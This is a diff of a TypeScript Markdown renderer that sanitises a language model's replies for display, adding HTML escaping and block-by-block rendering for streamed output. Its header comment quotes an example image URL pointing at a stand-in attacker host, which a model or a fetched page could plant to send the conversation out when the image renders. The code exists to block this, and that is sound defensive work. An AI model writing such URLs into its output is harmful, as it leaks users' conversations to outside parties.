@@ -7,9 +7,13 @@
  * `class`, `id`): whatever is not listed here is dropped, text kept.
  * Images are never loaded: a model or a fetched page could write `![](https://attacker/?q=<conversation>)` to send
  * the conversation away the moment it renders, so a Markdown image becomes a link the person may choose to open.
+ * Raw HTML in model text is shown as text (escaped), never parsed: `Vec<String>` reads `Vec<String>` and
+ * `<dialog open>` reads as the words the model wrote (issue 16 item 4); the allow-list stays the second line of defence.
+ * Streaming replies are rendered block by block (markdown-blocks.ts) through {@link lexModelMarkdown} and
+ * {@link renderModelTokens}, the same renderer and sanitiser as {@link renderMarkdown}.
  */
 import createDOMPurify, { type DOMPurify as Purifier } from 'dompurify'
-import { Marked } from 'marked'
+import { Lexer, Marked, type Token, type TokensList } from 'marked'
 
 function escapeHtml(text: string): string {
   return text.replace(/[&<>"']/g, c => `&#${c.charCodeAt(0)};`)
@@ -25,6 +29,10 @@ const marked = new Marked({
   renderer: {
     image({ href, text }) {
       return `<a href="${escapeHtml(href)}">[image: ${escapeHtml(text || 'untitled')}]</a>`
+    },
+    // Raw HTML (a block like `<div>` or an inline tag like `<String>`) is the model's text, shown as written.
+    html({ text, block }) {
+      return block ? `<p>${escapeHtml(text.replace(/\n+$/, ''))}</p>\n` : escapeHtml(text)
     },
   },
 })
@@ -83,13 +91,37 @@ function makePurifier(allowed: Readonly<Record<string, readonly string[]>>): { p
 
 let purifiers: { model: ReturnType<typeof makePurifier>, guide: ReturnType<typeof makePurifier> } | undefined
 
+function purifierFor(isOwnGuide: boolean): ReturnType<typeof makePurifier> {
+  purifiers ??= { model: makePurifier(MODEL_OUTPUT_ALLOWED), guide: makePurifier(GUIDE_ALLOWED) }
+  return isOwnGuide ? purifiers.guide : purifiers.model
+}
+
 /**
  * Renders Markdown to sanitised HTML. Safe to bind with `v-html`. Needs a DOM (a browser, or jsdom in tests).
  * `isOwnGuide` is for the app's bundled docs only: their images are kept (still sanitised); never for model output.
  */
 export function renderMarkdown(source: string, opts: { isOwnGuide?: boolean } = {}): string {
-  purifiers ??= { model: makePurifier(MODEL_OUTPUT_ALLOWED), guide: makePurifier(GUIDE_ALLOWED) }
-  const { purifier, config } = opts.isOwnGuide ? purifiers.guide : purifiers.model
+  const { purifier, config } = purifierFor(opts.isOwnGuide ?? false)
   const html = (opts.isOwnGuide ? trustedMarked : marked).parse(source) as string
   return purifier.sanitize(html, config)
+}
+
+/** Link reference definitions (`[id]: url`) found so far, by normalised label, as marked's lexer keeps them. */
+export type LinkDefinitions = TokensList['links']
+
+/**
+ * Splits model Markdown into its top-level block tokens (paragraph, list, code, table, space...) with the model
+ * renderer's options. `links` holds reference definitions met earlier in the same reply (not changed), so a tail lexed
+ * on its own still resolves `[text][id]`. Each token's `raw` is its exact source text once `\r\n` is `\n`.
+ */
+export function lexModelMarkdown(source: string, links: LinkDefinitions): Token[] {
+  const lexer = new Lexer(marked.defaults)
+  Object.assign(lexer.tokens.links, links)
+  return lexer.lex(source)
+}
+
+/** Renders model block tokens (from {@link lexModelMarkdown}) to sanitised HTML, as {@link renderMarkdown} would. */
+export function renderModelTokens(tokens: Token[]): string {
+  const { purifier, config } = purifierFor(false)
+  return purifier.sanitize(marked.parser(tokens), config)
 }
